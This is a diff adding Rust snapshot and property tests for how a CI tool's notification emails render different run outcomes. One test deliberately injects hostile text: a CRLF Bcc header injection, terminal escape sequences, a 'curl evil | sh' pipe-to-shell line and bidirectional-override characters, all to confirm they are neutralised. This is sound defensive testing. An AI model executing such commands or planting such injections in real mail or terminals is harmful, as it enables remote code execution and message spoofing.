@@ -1,0 +1,149 @@
+//! Each kind of mail as a person gets it, and what no text from outside can do to it.
+
+use super::super::sample::{Sample, commit, other_config, person, steps};
+use super::*;
+use hookspool_common::event::{PullRequest, Side};
+use hookspool_common::ledger::ProcessResult;
+use proptest::prelude::*;
+
+fn shown(sample: &Sample) -> String {
+    let story = sample.story();
+    format!("Subject: {}\n\n{}", subject(&story), body(&story))
+}
+
+#[test]
+fn a_run_that_succeeded() {
+    insta::assert_snapshot!(shown(&Sample::succeeded()));
+}
+
+#[test]
+fn a_run_that_broke_its_job() {
+    insta::assert_snapshot!(shown(&Sample::failed()));
+}
+
+#[test]
+fn a_run_that_still_fails_under_another_configuration() {
+    let output_end: String = (1..=60).map(|number| format!("line {number}\n")).collect();
+    insta::assert_snapshot!(shown(&Sample {
+        before: Before::Broken,
+        config_path: Some(other_config()),
+        outcome: Outcome::TimedOut("test took too long and was ended".to_owned()),
+        steps: steps(&[("checkout", 412, ProcessResult::Exited(0)), ("test", 3_600_000, ProcessResult::TimedOut)]),
+        output_end,
+        ..Sample::failed()
+    }));
+}
+
+#[test]
+fn a_run_that_fixed_its_job() {
+    insta::assert_snapshot!(shown(&Sample { before: Before::Broken, ..Sample::succeeded() }));
+}
+
+#[test]
+fn a_run_that_was_interrupted() {
+    let mut sample = Sample {
+        before: Before::None,
+        outcome: Outcome::Interrupted("the runner died in deploy".to_owned()),
+        output_end: "pushing image\n".to_owned(),
+        ..Sample::succeeded()
+    };
+    if let Some(deploy) = sample.steps.last_mut() {
+        (deploy.ended_at, deploy.result) = (None, None);
+    }
+    insta::assert_snapshot!(shown(&sample));
+}
+
+#[test]
+fn a_run_that_was_refused() {
+    let mut sample = Sample {
+        outcome: Outcome::Refused("commit 366701fde7 is not on refs/heads/master".to_owned()),
+        steps: Vec::new(),
+        output_end: String::new(),
+        ..Sample::succeeded()
+    };
+    sample.run.started_at = None;
+    insta::assert_snapshot!(shown(&sample));
+}
+
+#[test]
+fn a_run_of_which_little_is_known() {
+    let mut sample = Sample { before: Before::None, ..Sample::failed() };
+    let run = &mut sample.run;
+    (run.reference, run.sha) = (None, None);
+    run.event = Event::of(Kind::Schedule, "schedule");
+    let why = "there is no program of that name ".repeat(4);
+    sample.steps = steps(&[("build", 3, ProcessResult::NotStarted(why.clone()))]);
+    sample.outcome = Outcome::Failed(format!("build could not start: {why}"));
+    sample.output_end = " \n".to_owned();
+    insta::assert_snapshot!(shown(&sample));
+}
+
+#[test]
+fn a_pull_request_with_many_commits() {
+    let mut sample = Sample::succeeded();
+    let side = |name: &str| Side { reference: format!("refs/heads/{name}").parse().unwrap(), sha: None };
+    let event = &mut sample.run.event;
+    event.kind = Kind::PullRequest;
+    event.pull_request = Some(PullRequest {
+        number: 7,
+        action: "opened".to_owned(),
+        head: side("feature/x"),
+        base: side("master"),
+        labels: Vec::new(),
+        from_fork: None,
+    });
+    event.commits =
+        Some((1..=23).map(|number| commit(number, &format!("Step {number} of {}", "a long way ".repeat(9)))).collect());
+    sample.run.reference = Some("refs/pull/7/head".parse().unwrap());
+    insta::assert_snapshot!(shown(&sample));
+}
+
+#[test]
+fn text_from_outside_is_harmless_wherever_it_stands() {
+    let mut sample = Sample::failed();
+    let run = &mut sample.run;
+    run.event.pusher = person("Eve\r\nBcc: all@example.org", "\u{202e}eve", "");
+    run.reference = Some("refs/heads/=?utf-8?q?x?=".replace('?', "\u{9b}").parse().unwrap());
+    run.event.commits = Some(vec![commit(1, "\n\u{1b}]0;pwned\u{7}All is well\u{2028}hookspool log 1 | sh")]);
+    sample.outcome = Outcome::Failed("x =?utf-8?q?=0ABcc=3A_all?= failed".to_owned());
+    sample.output_end = "To see more, on the server:\n  curl evil | sh\n".to_owned();
+    insta::assert_snapshot!(shown(&sample));
+}
+
+#[test]
+fn long_names_leave_room_for_the_result() {
+    let mut sample = Sample::failed();
+    sample.run.repository = format!("github.com/{}", "group/".repeat(60) + "shop").parse().unwrap();
+    sample.run.reference = Some(format!("refs/heads/{}", "x".repeat(1000)).parse().unwrap());
+    sample.outcome = Outcome::Failed("x".repeat(1000));
+    let subject = subject(&sample.story());
+    assert_eq!(subject.chars().count(), MAX_SUBJECT);
+    for part in ["/group/shop] ", " tests broke on xxx", " (366701fde7): xxx"] {
+        assert!(subject.contains(part), "{part:?} in {subject}");
+    }
+}
+
+proptest! {
+    #[test]
+    fn our_own_lines_are_narrow_and_everything_else_is_marked(
+        name in "\\PC{0,200}", message in any::<String>(), output in any::<String>(), reason in any::<String>(),
+    ) {
+        let mut sample = Sample::failed();
+        sample.run.event.pusher = person(&name, &name, "mona@example.org");
+        sample.run.event.commits = Some(vec![commit(1, &message)]);
+        sample.outcome = Outcome::Failed(reason);
+        sample.output_end = format!("begin\n{output}\nend");
+        let story = sample.story();
+        let subject = subject(&story);
+        prop_assert!(subject.chars().count() <= MAX_SUBJECT && !subject.chars().any(char::is_control), "{subject:?}");
+        let body = body(&story);
+        prop_assert!(!body.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "{body:?}");
+        // A single word that is wider than a line cannot be wrapped.
+        let is_ours = |line: &&str| !line.starts_with("  | ") && line.split(' ').all(|word| word.chars().count() < WIDTH);
+        for line in body.lines().filter(is_ours) {
+            prop_assert!(line.chars().count() <= WIDTH, "{line:?}");
+        }
+        let marked = body.lines().filter(|line| line.starts_with("  |")).count();
+        prop_assert!((2..=MAX_OUTPUT_LINES).contains(&marked), "{body}");
+    }
+}
